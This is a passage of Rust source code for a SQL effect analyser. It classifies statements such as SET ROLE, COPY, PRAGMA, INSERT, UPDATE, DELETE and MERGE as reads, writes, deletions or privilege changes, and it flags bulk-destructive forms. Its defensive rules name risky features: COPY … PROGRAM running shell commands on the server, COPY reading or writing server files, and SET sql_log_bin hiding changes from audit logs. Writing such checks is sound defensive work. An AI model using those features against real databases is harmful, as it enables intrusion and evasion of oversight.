                fact.why = format!("EXPLAIN ANALYZE runs the statement: {}", fact.why);
            }
            self.fact(
                Effect::Read,
                "EXPLAIN ANALYZE",
                "EXPLAIN ANALYZE runs a statement and shows its plan",
            );
        } else {
            let mut inner = self.nested();
            inner.statement(statement);
            if inner.too_deep {
                self.unknown("EXPLAIN", "SQL nested too deeply to analyse");
            }
            for target in inner.targets {
                if self.seen.insert(target_key(&target)) {
                    self.targets.push(target);
                }
            }
            self.fact(
                Effect::Read,
                "EXPLAIN",
                "EXPLAIN shows a plan without running the statement",
            );
        }
    }

    fn use_(&mut self, use_: &ast::Use) {
        let (kind, object) = match use_ {
            ast::Use::Catalog(o) | ast::Use::Database(o) | ast::Use::Object(o) => {
                ("db:database", o)
            }
            ast::Use::Schema(o) => ("db:schema", o),
            ast::Use::Warehouse(o) => ("db:warehouse", o),
            ast::Use::Role(o) => {
                let name = self.target("db:role", o);
                self.fact(
                    Effect::Permissions,
                    "USE ROLE",
                    format!("USE ROLE switches the session to role {name}"),
                );
                return;
            }
            ast::Use::SecondaryRoles(_) => {
                self.fact(
                    Effect::Permissions,
                    "USE SECONDARY ROLES",
                    "USE SECONDARY ROLES changes the session's privileges",
                );
                return;
            }
            ast::Use::Default => {
                self.fact(Effect::Read, "USE", "USE selects the default database");
                return;
            }
        };
        let name = self.target(kind, object);
        if kind != "db:warehouse"
            && let Some(n) = self.name(object)
        {
            self.use_namespace = Some(n.name);
        }
        self.fact(Effect::Read, "USE", format!("USE selects {name}"));
    }

    fn set(&mut self, set: &ast::Set) {
        use ast::Set as S;
        match set {
            S::SetRole { role_name, .. } => match role_name {
                Some(role) => {
                    let role = self.role(role);
                    self.fact(
                        Effect::Permissions,
                        "SET ROLE",
                        format!("SET ROLE switches the session to the privileges of role {role}"),
                    );
                }
                None => self.fact(
                    Effect::Read,
                    "SET ROLE NONE",
                    "SET ROLE NONE drops back to the session user",
                ),
            },
            S::SetSessionAuthorization(param) => match &param.kind {
                ast::SetSessionAuthorizationParamKind::User(user) => {
                    let user = self.role(user);
                    self.fact(
                        Effect::Permissions,
                        "SET SESSION AUTHORIZATION",
                        format!("SET SESSION AUTHORIZATION makes the session act as {user}"),
                    );
                }
                ast::SetSessionAuthorizationParamKind::Default => self.fact(
                    Effect::Read,
                    "SET SESSION AUTHORIZATION",
                    "SET SESSION AUTHORIZATION DEFAULT drops back to the session user",
                ),
            },
            S::SingleAssignment {
                scope,
                variable,
                values,
                ..
            } => {
                self.exprs(values);
                self.set_variable(scope.as_ref(), variable);
            }
            S::ParenthesizedAssignments { variables, values } => {
                self.exprs(values);
                for variable in variables {
                    self.set_variable(None, variable);
                }
            }
            S::MultipleAssignments { assignments } => {
                for a in assignments {
                    self.expr(&a.value);
                    self.set_variable(a.scope.as_ref(), &a.name);
                }
            }
            S::SetSessionParam(_)
            | S::SetTimeZone { .. }
            | S::SetNames { .. }
            | S::SetNamesDefault {}
            | S::SetTransaction { .. } => {
                self.fact(Effect::Read, "SET", "SET changes a session setting");
            }
        }
    }

    fn set_variable(&mut self, scope: Option<&ast::ContextModifier>, variable: &ast::ObjectName) {
        let name = variable
            .0
            .last()
            .map(|p| match p {
                ast::ObjectNamePart::Identifier(i) => i.value.to_lowercase(),
                ast::ObjectNamePart::Function(f) => f.name.value.to_lowercase(),
            })
            .unwrap_or_default();
        match name.as_str() {
            "role" | "session_authorization" => self.fact(
                Effect::Permissions,
                "SET ROLE",
                format!("SET {name} switches the privileges the session runs with"),
            ),
            "session_replication_role" => self.unknown(
                "SET",
                "SET session_replication_role disables triggers and foreign-key checks",
            ),
            "sql_log_bin" => self.unknown(
                "SET",
                "SET sql_log_bin hides changes from the binary log, replicas and audit",
            ),
            _ if matches!(scope, Some(ast::ContextModifier::Global)) => self.fact(
                Effect::Write,
                "SET GLOBAL",
                format!("SET GLOBAL {name} changes a server setting for every session"),
            ),
            _ => self.fact(
                Effect::Read,
                "SET",
                format!("SET {name} changes a session setting"),
            ),
        }
    }

    fn copy(&mut self, source: &ast::CopySource, to: bool, target: &ast::CopyTarget) {
        let what = match source {
            ast::CopySource::Table { table_name, .. } => self.target("db:table", table_name),
            ast::CopySource::Query(query) => {
                let start = self.targets.len();
                self.query(query);
                format!("a query over {}", self.tables_since(start))
            }
        };
        match (to, target) {
            (_, ast::CopyTarget::Program { command }) => self.unknown(
                if to {
                    "COPY TO PROGRAM"
                } else {
                    "COPY FROM PROGRAM"
                },
                format!("COPY … PROGRAM runs shell command {command:?} on the database server"),
            ),
            (true, ast::CopyTarget::File { filename }) => self.unknown(
                "COPY TO FILE",
                format!("COPY … TO writes file {filename:?} on the database server"),
            ),
            (false, ast::CopyTarget::File { filename }) => self.unknown(
                "COPY FROM FILE",
                format!("COPY … FROM reads file {filename:?} on the database server into {what}"),
            ),
            (true, _) => self.fact(
                Effect::Read,
                "COPY TO",
                format!("COPY … TO STDOUT reads {what}"),
            ),
            (false, _) => self.fact(
                Effect::Write,
                "COPY FROM",
                format!("COPY … FROM STDIN adds rows to {what}"),
            ),
        }
    }

    fn pragma(&mut self, name: &ast::ObjectName, has_value: bool) {
        let pragma = name
            .0
            .last()
            .map(|p| p.to_string().to_lowercase())
            .unwrap_or_default();
        if matches!(pragma.as_str(), "writable_schema" | "trusted_schema") && has_value {
            self.unknown(
                "PRAGMA",
                format!("PRAGMA {pragma} lets SQL rewrite the schema or run untrusted code"),
            );
        } else if has_value {
            self.fact(
                Effect::Write,
                "PRAGMA",
                format!("PRAGMA {pragma} = … changes a database setting"),
            );
        } else if read_only_pragma(&pragma) {
            self.fact(
                Effect::Read,
                "PRAGMA",
                format!("PRAGMA {pragma} reads a setting"),
            );
        } else {
            self.fact(
                Effect::Write,
                "PRAGMA",
                format!("PRAGMA {pragma} may change the database"),
            );
        }
    }

    // ----- data-changing statements -------------------------------------------------

    fn insert(&mut self, insert: &ast::Insert) {
        let table = match &insert.table {
            ast::TableObject::TableName(name) => self.target("db:table", name),
            ast::TableObject::TableFunction(f) => {
                self.function(f);
                self.unknown("INSERT", "INSERT INTO a table function");
                f.name.to_string()
            }
            ast::TableObject::TableQuery(q) => {
                self.query(q);
                "a subquery".to_string()
            }
        };
        if let Some(source) = &insert.source {
            self.query(source);
        }
        self.assignments(&insert.assignments);
        if let Some(partitioned) = &insert.partitioned {
            self.exprs(partitioned);
        }
        let mut upsert = false;
        match &insert.on {
            Some(ast::OnInsert::DuplicateKeyUpdate(assignments)) => {
                upsert = true;
                self.assignments(assignments);
            }
            Some(ast::OnInsert::OnConflict(conflict)) => {
                if let ast::OnConflictAction::DoUpdate(update) = &conflict.action {
                    upsert = true;
                    self.assignments(&update.assignments);
                    if let Some(e) = &update.selection {
                        self.expr(e);
                    }
                }
            }
            _ => {}
        }
        if let Some(items) = &insert.returning {
            self.select_items(items);
        }
        if let Some(output) = &insert.output {
            self.output(output);
        }
        if !insert.multi_table_into_clauses.is_empty()
            || !insert.multi_table_when_clauses.is_empty()
            || insert.multi_table_else_clause.is_some()
        {
            self.unknown("INSERT", "multi-table INSERT is not analysed");
        }
        let replace =
            insert.replace_into || matches!(insert.or, Some(ast::SqliteOnConflict::Replace));
        if insert.overwrite {
            self.bulk_fact(
                Effect::Delete,
                "INSERT OVERWRITE",
                format!("INSERT OVERWRITE replaces every row of {table}"),
            );
        } else if replace {
            self.fact(
                Effect::Write,
                "REPLACE",
                format!("REPLACE adds rows to {table}, replacing rows that clash"),
            );
        } else if upsert {
            self.fact(
                Effect::Write,
                "INSERT",
                format!("INSERT adds rows to {table} or updates those that clash"),
            );
        } else {
            self.fact(
                Effect::Write,
                "INSERT",
                format!("INSERT adds rows to {table}"),
            );
        }
    }

    fn update(&mut self, update: &ast::Update) {
        let table = match &update.table.relation {
            ast::TableFactor::Table { name, .. } => self.target("db:table", name),
            other => {
                self.table_factor(other);
                "a joined table".to_string()
            }
        };
        for join in &update.table.joins {
            self.join(join);
        }
        match &update.from {
            Some(ast::UpdateTableFromKind::BeforeSet(from))
            | Some(ast::UpdateTableFromKind::AfterSet(from)) => {
                for t in from {
                    self.table_with_joins(t);
                }
            }
            None => {}
        }
        self.assignments(&update.assignments);
        if let Some(items) = &update.returning {
            self.select_items(items);
        }
        if let Some(output) = &update.output {
            self.output(output);
        }
        self.order_by_exprs(&update.order_by);
        if let Some(limit) = &update.limit {
            self.expr(limit);
        }
        match &update.selection {
            // Overwriting a column in every row loses its old values as surely as
            // deleting them: the corpus and the issue count it as destructive.
            None => self.bulk_fact(
                Effect::Delete,
                "UPDATE",
                format!("UPDATE without WHERE overwrites every row of {table}"),
            ),
            Some(w) => {
                self.expr(w);
                if always_true(w) {
                    self.bulk_fact(
                        Effect::Delete,
                        "UPDATE",
                        format!(
                            "UPDATE whose WHERE is always true overwrites every row of {table}"
                        ),
                    );
                } else {
                    self.fact(
                        Effect::Write,
                        "UPDATE",
                        format!("UPDATE changes rows of {table}"),
                    );
                }
            }
        }
    }

    fn delete(&mut self, delete: &ast::Delete) {
        let from = match &delete.from {
            ast::FromTable::WithFromKeyword(v) | ast::FromTable::WithoutKeyword(v) => v,
        };
        // MySQL's `DELETE t1 FROM t1 JOIN t2 …` deletes from the listed tables; in
        // every other form, from the first table after FROM.
        let mut deleted = Vec::new();
        for name in &delete.tables {
            deleted.push(self.target("db:table", name));
        }
        for (i, twj) in from.iter().enumerate() {
            match &twj.relation {
                ast::TableFactor::Table {
                    name, args: None, ..
                } if i == 0 && delete.tables.is_empty() => {
                    deleted.push(self.target("db:table", name));
                }
                other => self.table_factor(other),
            }
            for join in &twj.joins {
                self.join(join);
            }
        }
        let mut using = false;
        let mut using_tables = String::new();
        if let Some(tables) = &delete.using {
            using = !tables.is_empty();
            let start = self.targets.len();
            for t in tables {
                self.table_with_joins(t);
            }
            using_tables = self.tables_since(start);
        }
        if let Some(items) = &delete.returning {
            self.select_items(items);
        }
        if let Some(output) = &delete.output {
            self.output(output);
        }
        self.order_by_exprs(&delete.order_by);
        if let Some(limit) = &delete.limit {
            self.expr(limit);
        }
        let table = Self::shown(&deleted);
        let verb = if using { "DELETE … USING" } else { "DELETE" };

        match &delete.selection {
            None => self.bulk_fact(
                Effect::Delete,
                "DELETE",
                format!("{verb} without WHERE removes every row of {table}"),
            ),
            Some(w) => {
                self.expr(w);
                if always_true(w) {
                    self.bulk_fact(
                        Effect::Delete,
                        "DELETE",
                        format!("{verb} whose WHERE is always true removes every row of {table}"),
                    );
                } else if using {
                    self.fact(
                        Effect::Delete,
                        "DELETE",
                        format!("{verb} removes rows of {table} that match {using_tables}"),
                    );
                } else {
                    self.fact(
                        Effect::Delete,
                        "DELETE",
                        format!("{verb} removes rows of {table}"),
                    );
                }
            }
        }
    }

    fn merge(&mut self, merge: &ast::Merge) {
        let table = match &merge.table {
            ast::TableFactor::Table { name, .. } => self.target("db:table", name),
            other => {
                self.table_factor(other);
                "a table".to_string()
            }
        };
        self.table_factor(&merge.source);
        self.expr(&merge.on);
        let mut deletes = false;
        let mut bulk = false;
        for clause in &merge.clauses {
            if let Some(p) = &clause.predicate {
                self.expr(p);
            }
            match &clause.action {
                ast::MergeAction::Insert(insert) => {
                    if let ast::MergeInsertKind::Values(values) = &insert.kind {
                        self.values(values);
                    }
                    if let Some(p) = &insert.insert_predicate {
                        self.expr(p);
                    }
                }
                ast::MergeAction::Update(update) => {
                    if let ast::MergeUpdateKind::Set(assignments) = &update.kind {
                        self.assignments(assignments);
                    }
                    if let Some(p) = &update.update_predicate {
                        self.expr(p);
                    }
                    if let Some(p) = &update.delete_predicate {
                        deletes = true;
                        self.expr(p);
                    }
                }
                ast::MergeAction::Delete { .. } => {
                    deletes = true;
                    if matches!(clause.clause_kind, ast::MergeClauseKind::NotMatchedBySource)
                        && clause.predicate.is_none()
                    {
                        bulk = true;
                    }
                }
                ast::MergeAction::DoNothing { .. } => {}
            }
        }
        if let Some(output) = &merge.output {
            self.output(output);
        }
        if bulk {
            self.bulk_fact(
                Effect::Delete,
                "MERGE",
                format!("MERGE … WHEN NOT MATCHED BY SOURCE THEN DELETE removes every row of {table} missing from the source"),
            );
        } else if deletes {
            self.fact(
                Effect::Delete,
                "MERGE",
                format!("MERGE … DELETE removes rows of {table}"),
            );
        } else {
            self.fact(
                Effect::Write,
                "MERGE",
                format!("MERGE adds or changes rows of {table}"),
            );
        }
    }

    fn assignments(&mut self, assignments: &[ast::Assignment]) {
        for a in assignments {
            self.expr(&a.value);
        }
    }

    fn output(&mut self, output: &ast::OutputClause) {
        match output {
            ast::OutputClause::Output {
                select_items,
                into_table,
                ..
            } => {
                self.select_items(select_items);
                if let Some(into) = into_table {
                    self.select_into(into);
                }
            }
            ast::OutputClause::Returning { select_items, .. } => self.select_items(select_items),
        }
    }

    // ----- queries -------------------------------------------------------------------

    fn query(&mut self, query: &ast::Query) {
        if !self.descend() {
            return;
        }
        let scope = self.ctes.len();
        if let Some(with) = &query.with {
            for cte in &with.cte_tables {
                let name = self.ident(&cte.alias.name);
                if with.recursive {
                    self.push_cte(name.clone());
                }
                self.query(&cte.query);
                if !with.recursive {
                    self.push_cte(name);
                }
            }
        }
        self.set_expr(&query.body);
        if let Some(order_by) = &query.order_by
            && let ast::OrderByKind::Expressions(exprs) = &order_by.kind
        {
            self.order_by_exprs(exprs);
        }
        match &query.limit_clause {
            Some(ast::LimitClause::LimitOffset {
                limit,
                offset,
                limit_by,
            }) => {
                if let Some(l) = limit {
                    self.expr(l);
                }
                if let Some(o) = offset {
                    self.expr(&o.value);
                }
                self.exprs(limit_by);
            }
            Some(ast::LimitClause::OffsetCommaLimit { offset, limit }) => {
                self.expr(offset);
                self.expr(limit);
            }
            None => {}
        }
        if let Some(fetch) = &query.fetch
            && let Some(q) = &fetch.quantity
        {
            self.expr(q);
        }
        for lock in &query.locks {
            let (op, verb) = match lock.lock_type {
                ast::LockType::Update => ("SELECT FOR UPDATE", "FOR UPDATE"),
                ast::LockType::Share => ("SELECT FOR SHARE", "FOR SHARE"),
            };
            let what = match &lock.of {
                Some(of) => self.target("db:table", of),
                None => "the rows it reads".to_string(),
            };
            self.fact(
                Effect::Write,
                op,
                format!("SELECT … {verb} locks {what} against other writers"),
            );
        }
        if !query.pipe_operators.is_empty() {
            self.unknown("SELECT", "pipe (|>) query syntax is not analysed");
        }
        self.pop_ctes(scope);
        self.ascend();
    }

    fn set_expr(&mut self, body: &ast::SetExpr) {
        if !self.descend() {
            return;
        }
        // Set operations chain to the left: walk that spine iteratively.
        let mut current = body;
        loop {
            match current {
                ast::SetExpr::SetOperation { left, right, .. } => {
                    self.set_expr(right);
                    current = left;
                }
                ast::SetExpr::Select(select) => {
                    self.select(select);
                    break;
                }
                ast::SetExpr::Query(query) => {
                    self.query(query);
                    break;
                }
                ast::SetExpr::Values(values) => {
                    self.values(values);
                    break;
                }
                ast::SetExpr::Insert(s)
                | ast::SetExpr::Update(s)
                | ast::SetExpr::Delete(s)
                | ast::SetExpr::Merge(s) => {
                    self.statement(s);
                    break;
                }
                ast::SetExpr::Table(table) => {
                    if let Some(name) = &table.table_name {
                        let parts = match &table.schema_name {
                            Some(schema) => vec![schema.clone(), name.clone()],
                            None => vec![name.clone()],
                        };
                        self.read_table(&ast::ObjectName::from(parts));
                    }
                    break;
                }
            }
        }
        self.ascend();
    }

    fn values(&mut self, values: &ast::Values) {
        for row in &values.rows {
            self.exprs(&row.content);
        }
    }

    fn select(&mut self, select: &ast::Select) {
        if let Some(ast::Distinct::On(exprs)) = &select.distinct {
            self.exprs(exprs);
        }
        if let Some(top) = &select.top
            && let Some(ast::TopQuantity::Expr(e)) = &top.quantity
        {
            self.expr(e);
        }
        self.select_items(&select.projection);
        for t in &select.from {
            self.table_with_joins(t);
        }
        for lateral in &select.lateral_views {
            self.expr(&lateral.lateral_view);
        }
        for e in [
            &select.prewhere,
            &select.selection,
            &select.having,
            &select.qualify,
        ]
        .into_iter()
        .flatten()
        {
            self.expr(e);
        }
        for connect in &select.connect_by {
            match connect {
                ast::ConnectByKind::ConnectBy { relationships, .. } => self.exprs(relationships),
                ast::ConnectByKind::StartWith { condition, .. } => self.expr(condition),
            }
        }
        match &select.group_by {
            ast::GroupByExpr::All(_) => {}
            ast::GroupByExpr::Expressions(exprs, _) => self.exprs(exprs),
        }
        self.exprs(&select.cluster_by);
        self.exprs(&select.distribute_by);
        self.order_by_exprs(&select.sort_by);
        for window in &select.named_window {
            if let ast::NamedWindowExpr::WindowSpec(spec) = &window.1 {
                self.window_spec(spec);
            }
        }
        if let Some(into) = &select.into {
            self.select_into(into);
        }
    }

    fn select_into(&mut self, into: &ast::SelectInto) {
        // MySQL's `SELECT … INTO @var` sets variables (`INTO OUTFILE` does not parse);
        // elsewhere `SELECT … INTO t` creates table t.
        if self.dialect == Dialect::MySql {
            self.fact(Effect::Read, "SELECT INTO", "SELECT … INTO sets variables");
            return;
        }
        let mut names = Vec::new();
        for target in &into.targets {
            match target {
                ast::Expr::Identifier(ident) => names.push(self.ident_target("db:table", ident)),
                ast::Expr::CompoundIdentifier(parts) => {
                    names.push(self.target("db:table", &ast::ObjectName::from(parts.clone())));
                }
                other => self.expr(other),
            }
        }
        self.fact(
            Effect::Write,
            "SELECT INTO",
            format!("SELECT … INTO creates table {}", Self::shown(&names)),
        );
    }

    fn select_items(&mut self, items: &[ast::SelectItem]) {
        for item in items {
            match item {
                ast::SelectItem::UnnamedExpr(e)
                | ast::SelectItem::ExprWithAlias { expr: e, .. }
                | ast::SelectItem::ExprWithAliases { expr: e, .. } => self.expr(e),
                ast::SelectItem::QualifiedWildcard(kind, options) => {
                    if let ast::SelectItemQualifiedWildcardKind::Expr(e) = kind {
                        self.expr(e);
                    }
                    self.wildcard_options(options);
                }
                ast::SelectItem::Wildcard(options) => self.wildcard_options(options),
            }
        }
    }

    fn wildcard_options(&mut self, options: &ast::WildcardAdditionalOptions) {
        if let Some(replace) = &options.opt_replace {
            for item in &replace.items {
                self.expr(&item.expr);
            }
        }
    }

    fn table_with_joins(&mut self, t: &ast::TableWithJoins) {
        self.table_factor(&t.relation);
        for join in &t.joins {
            self.join(join);
        }
    }

    fn join(&mut self, join: &ast::Join) {
        use ast::JoinOperator as J;
        self.table_factor(&join.relation);
        let constraint = match &join.join_operator {
            J::Join(c)
            | J::Inner(c)
            | J::Left(c)
            | J::LeftOuter(c)
            | J::Right(c)
            | J::RightOuter(c)
            | J::FullOuter(c)
            | J::CrossJoin(c)
            | J::Semi(c)
            | J::LeftSemi(c)
            | J::RightSemi(c)
            | J::Anti(c)
            | J::LeftAnti(c)
            | J::RightAnti(c)
            | J::StraightJoin(c) => Some(c),
            J::AsOf {
                match_condition,
                constraint,
            } => {
                self.expr(match_condition);
                Some(constraint)
            }
            J::CrossApply | J::OuterApply | J::ArrayJoin | J::LeftArrayJoin | J::InnerArrayJoin => {
                None
            }
        };
        if let Some(ast::JoinConstraint::On(e)) = constraint {
            self.expr(e);
        }
    }

    fn table_factor(&mut self, factor: &ast::TableFactor) {
        if !self.descend() {
            return;
        }
        use ast::TableFactor as T;
        match factor {
            T::Table {
                name,
                args,
                with_hints,
                version,
                sample,
                ..
            } => {
                match args {
                    // `FROM f(…)`: a set-returning function, not a table.
                    Some(args) => {
                        self.call(name);
                        self.function_arg_list(&args.args);
                    }
                    None => self.read_table(name),
                }
                self.exprs(with_hints);
                match version {
                    Some(
                        ast::TableVersion::ForSystemTimeAsOf(e)
                        | ast::TableVersion::TimestampAsOf(e)
                        | ast::TableVersion::VersionAsOf(e)
                        | ast::TableVersion::Function(e),
                    ) => self.expr(e),
                    Some(ast::TableVersion::Changes { changes, at, end }) => {
                        self.expr(changes);
                        self.expr(at);
                        if let Some(e) = end {
                            self.expr(e);
                        }
                    }
                    None => {}
                }
                self.sample(sample.as_ref());
            }
            T::Derived {
                subquery, sample, ..
            } => {
                self.query(subquery);
                self.sample(sample.as_ref());
            }
            T::TableFunction { expr, .. } => self.expr(expr),
            T::Function { name, args, .. } => {
                self.call(name);
                self.function_arg_list(args);
            }
            T::UNNEST { array_exprs, .. } => self.exprs(array_exprs),
            T::JsonTable { json_expr, .. } | T::OpenJsonTable { json_expr, .. } => {
                self.expr(json_expr);
            }
            T::NestedJoin {
                table_with_joins, ..
            } => self.table_with_joins(table_with_joins),
            T::Pivot {
                table,
                aggregate_functions,
                value_column,
                value_source,
                default_on_null,
                ..
            } => {
                self.table_factor(table);
                for f in aggregate_functions {
                    self.expr(&f.expr);
                }
                self.exprs(value_column);
                match value_source {
                    ast::PivotValueSource::List(list) => {
                        for e in list {
                            self.expr(&e.expr);
                        }
                    }
                    ast::PivotValueSource::Any(order) => self.order_by_exprs(order),
                    ast::PivotValueSource::Subquery(q) => self.query(q),
                }
                if let Some(e) = default_on_null {
                    self.expr(e);
                }
            }
            T::Unpivot {
                table,
                value,
                columns,
                ..
            } => {
                self.table_factor(table);
                self.expr(value);
                for c in columns {
                    self.expr(&c.expr);
                }
            }
            T::UnpivotExpr { expression, .. } => self.expr(expression),
            T::MatchRecognize {
                table,
                partition_by,
                order_by,
                measures,
                symbols,
                ..
            } => {
                self.table_factor(table);
                self.exprs(partition_by);
                self.order_by_exprs(order_by);
                for m in measures {
                    self.expr(&m.expr);
                }
                for s in symbols {
                    self.expr(&s.definition);
                }
            }
            T::XmlTable { .. } | T::SemanticView { .. } => {
                self.unknown("SELECT", "XMLTABLE and semantic views are not analysed");
            }
        }
        self.ascend();
    }

    fn sample(&mut self, sample: Option<&ast::TableSampleKind>) {
        let (ast::TableSampleKind::BeforeTableAlias(sample)
        | ast::TableSampleKind::AfterTableAlias(sample)) = match sample {
            Some(kind) => kind,
            None => return,
        };
        if let Some(quantity) = &sample.quantity {
            self.expr(&quantity.value);
        }
        if let Some(on) = sample.bucket.as_ref().and_then(|b| b.on.as_ref()) {
            self.expr(on);
        }
        if let Some(offset) = &sample.offset {
            self.expr(offset);
        }
    }

    fn order_by_exprs(&mut self, exprs: &[ast::OrderByExpr]) {
        for o in exprs {
            self.expr(&o.expr);
        }
    }

    fn window_spec(&mut self, spec: &ast::WindowSpec) {
        self.exprs(&spec.partition_by);
        self.order_by_exprs(&spec.order_by);
        if let Some(frame) = &spec.window_frame {
            for bound in std::iter::once(&frame.start_bound).chain(frame.end_bound.as_ref()) {
                if let ast::WindowFrameBound::Preceding(Some(e))
                | ast::WindowFrameBound::Following(Some(e)) = bound
                {
                    self.expr(e);
                }
            }
        }
    }

    // ----- expressions ------------------------------------------------------------------

    fn exprs(&mut self, exprs: &[ast::Expr]) {
        for e in exprs {
            self.expr(e);
        }
    }

    fn expr(&mut self, expr: &ast::Expr) {
        if !self.descend() {
            return;
        }
        // Binary operators chain to the left: walk that spine iteratively.
        let mut current = expr;
        while let ast::Expr::BinaryOp { left, op, right } = current {
            if matches!(
                op,
                ast::BinaryOperator::Custom(_) | ast::BinaryOperator::PGCustomBinaryOperator(_)
            ) {
                self.unknown(
                    "SELECT",
                    format!("operator {op} may be user-defined and change data"),
                );
            }
            self.expr(right);
            current = left;
        }
        self.expr_inner(current);
        self.ascend();
    }

    fn expr_inner(&mut self, expr: &ast::Expr) {
        use ast::Expr as E;
        match expr {
            E::Identifier(_)
            | E::CompoundIdentifier(_)
            | E::Value(_)
            | E::TypedString(_)
            | E::Wildcard(_)
            | E::QualifiedWildcard(..)
            | E::MatchAgainst { .. } => {}
            E::CompoundFieldAccess { root, access_chain } => {
                self.expr(root);
                for access in access_chain {
                    match access {
                        ast::AccessExpr::Dot(e) => self.expr(e),
                        ast::AccessExpr::Subscript(s) => self.subscript(s),
                    }
                }
            }
            E::JsonAccess { value, path } => {
                self.expr(value);
                for elem in &path.path {
                    match elem {
                        ast::JsonPathElem::Bracket { key }
                        | ast::JsonPathElem::ColonBracket { key } => {
                            self.expr(key);
                        }
                        ast::JsonPathElem::Dot { .. } => {}
                    }
                }
            }
            E::IsFalse(e)
            | E::IsNotFalse(e)
            | E::IsTrue(e)
            | E::IsNotTrue(e)
            | E::IsNull(e)
            | E::IsNotNull(e)
            | E::IsUnknown(e)
            | E::IsNotUnknown(e)
            | E::IsJson { expr: e, .. }
            | E::IsNormalized { expr: e, .. }
            | E::UnaryOp { expr: e, .. }
            | E::Cast { expr: e, .. }
            | E::Extract { expr: e, .. }
            | E::Ceil { expr: e, .. }
            | E::Floor { expr: e, .. }
            | E::Collate { expr: e, .. }
            | E::Nested(e)
            | E::Prefixed { value: e, .. }
            | E::Named { expr: e, .. }
            | E::OuterJoin(e)
            | E::Prior(e) => self.expr(e),
            E::IsDistinctFrom(a, b)
            | E::IsNotDistinctFrom(a, b)
            | E::AnyOp {
                left: a, right: b, ..
            }
            | E::AllOp {
                left: a, right: b, ..
            }
            | E::AtTimeZone {
                timestamp: a,
                time_zone: b,
            }
            | E::Position { expr: a, r#in: b }
            | E::RLike {
                expr: a,
                pattern: b,
                ..
            } => {
                self.expr(a);
                self.expr(b);
            }
            E::Like {
                expr,
                pattern,
                escape_char,
                ..
            }
            | E::ILike {
                expr,
                pattern,
                escape_char,
                ..
            }
            | E::SimilarTo {
                expr,
                pattern,
                escape_char,
                ..
            } => {
                self.expr(expr);
                self.expr(pattern);
                if let Some(e) = escape_char {
                    self.expr(e);
                }
            }
            E::In { expr, target, .. } => {
                self.expr(expr);
                match target {
                    ast::InTarget::List(list) => self.exprs(list),
                    ast::InTarget::Subquery(q) => self.query(q),
                    ast::InTarget::Unnest(e) => self.expr(e),
                    ast::InTarget::Table { name, args } => match args {
                        Some(args) => {
                            self.call(name);
                            self.function_arg_list(args);
                        }
                        None => self.read_table(name),
                    },
                }
            }
            E::Between {
                expr, low, high, ..
            } => {
                self.expr(expr);
                self.expr(low);
                self.expr(high);
            }
            E::BinaryOp { left, right, .. } => {
                self.expr(left);
                self.expr(right);
            }
            E::Convert { expr, styles, .. } => {
                self.expr(expr);
                self.exprs(styles);
            }
            E::Substring {
                expr,
                substring_from,
                substring_for,
                ..
            } => {
                self.expr(expr);
                for e in [substring_from, substring_for].into_iter().flatten() {
                    self.expr(e);
                }
            }
            E::Trim {
                expr,
                trim_what,
                trim_characters,
                ..
            } => {
                self.expr(expr);
                if let Some(e) = trim_what {
                    self.expr(e);
                }
                if let Some(chars) = trim_characters {
                    self.exprs(chars);
                }
            }
            E::Overlay {
                expr,
                overlay_what,
                overlay_from,
                overlay_for,
            } => {
                self.expr(expr);
                self.expr(overlay_what);
                self.expr(overlay_from);
                if let Some(e) = overlay_for {
                    self.expr(e);
                }
            }
            E::Function(f) => self.function(f),
            E::Case {
                operand,
                conditions,
                else_result,
                ..
            } => {
                if let Some(e) = operand {
                    self.expr(e);
                }
                for when in conditions {
                    self.expr(&when.condition);
                    self.expr(&when.result);
                }
                if let Some(e) = else_result {
                    self.expr(e);
                }
            }
            E::Exists { subquery, .. } | E::Subquery(subquery) => self.query(subquery),
            E::GroupingSets(sets) | E::Cube(sets) | E::Rollup(sets) => {
                for set in sets {
                    self.exprs(set);
                }
            }
            E::Tuple(list) => self.exprs(list),
            E::Struct { values, .. } => self.exprs(values),
            E::Dictionary(fields) => {
                for f in fields {
                    self.expr(&f.value);
                }
            }
            E::Map(map) => {
                for entry in &map.entries {
                    self.expr(&entry.key);
                    self.expr(&entry.value);
                }
            }
            E::Array(array) => self.exprs(&array.elem),
            E::Interval(interval) => self.expr(&interval.value),
            E::Lambda(lambda) => self.expr(&lambda.body),
            E::MemberOf(member) => {
                self.expr(&member.value);
                self.expr(&member.array);
            }
        }
    }

    fn subscript(&mut self, s: &ast::Subscript) {
        match s {
            ast::Subscript::Index { index } => self.expr(index),
            ast::Subscript::Slice {
                lower_bound,
                upper_bound,
                stride,
            } => {
                for e in [lower_bound, upper_bound, stride].into_iter().flatten() {
                    self.expr(e);
                }
            }
        }
    }

    fn function(&mut self, f: &ast::Function) {
        self.call(&f.name);
        self.function_args(f);
    }

    fn function_args(&mut self, f: &ast::Function) {
        for args in [&f.parameters, &f.args] {
            match args {
                ast::FunctionArguments::None => {}
                ast::FunctionArguments::Subquery(q) => self.query(q),
                ast::FunctionArguments::List(list) => {
                    self.function_arg_list(&list.args);
                    for clause in &list.clauses {
                        match clause {
                            ast::FunctionArgumentClause::Where(e)
                            | ast::FunctionArgumentClause::Limit(e)
                            | ast::FunctionArgumentClause::Having(ast::HavingBound(_, e)) => {
                                self.expr(e)
                            }
                            ast::FunctionArgumentClause::OrderBy(order) => {
                                self.order_by_exprs(order)
                            }
                            ast::FunctionArgumentClause::OnOverflow(
                                ast::ListAggOnOverflow::Truncate {
                                    filler: Some(e), ..
                                },
                            ) => self.expr(e),
                            _ => {}
                        }
                    }
                }
            }
        }
        if let Some(filter) = &f.filter {
            self.expr(filter);
        }
        if let Some(ast::WindowType::WindowSpec(spec)) = &f.over {
            self.window_spec(spec);
        }
        self.order_by_exprs(&f.within_group);
    }

    fn function_arg_list(&mut self, args: &[ast::FunctionArg]) {
        for arg in args {
            let value = match arg {
                ast::FunctionArg::Named { arg, .. } => arg,
                ast::FunctionArg::ExprNamed { name, arg, .. } => {
                    self.expr(name);
                    arg
                }
                ast::FunctionArg::Unnamed(arg) => arg,
            };
            match value {
                ast::FunctionArgExpr::Expr(e) => self.expr(e),
                ast::FunctionArgExpr::WildcardWithOptions(options) => {
                    self.wildcard_options(options)
                }
                ast::FunctionArgExpr::QualifiedWildcard(_) | ast::FunctionArgExpr::Wildcard => {}
            }
        }
    }

    /// A call to function `name`: known side effects give their effect, well-known
    /// pure built-ins nothing, anything else `unknown`.
    fn call(&mut self, object: &ast::ObjectName) {
        let mut parts = Vec::new();
        for part in &object.0 {
            match part {
                ast::ObjectNamePart::Identifier(ident) => parts.push(ident),
                ast::ObjectNamePart::Function(_) => {
                    self.unknown("SELECT", "a function name computed at run time");
                    return;
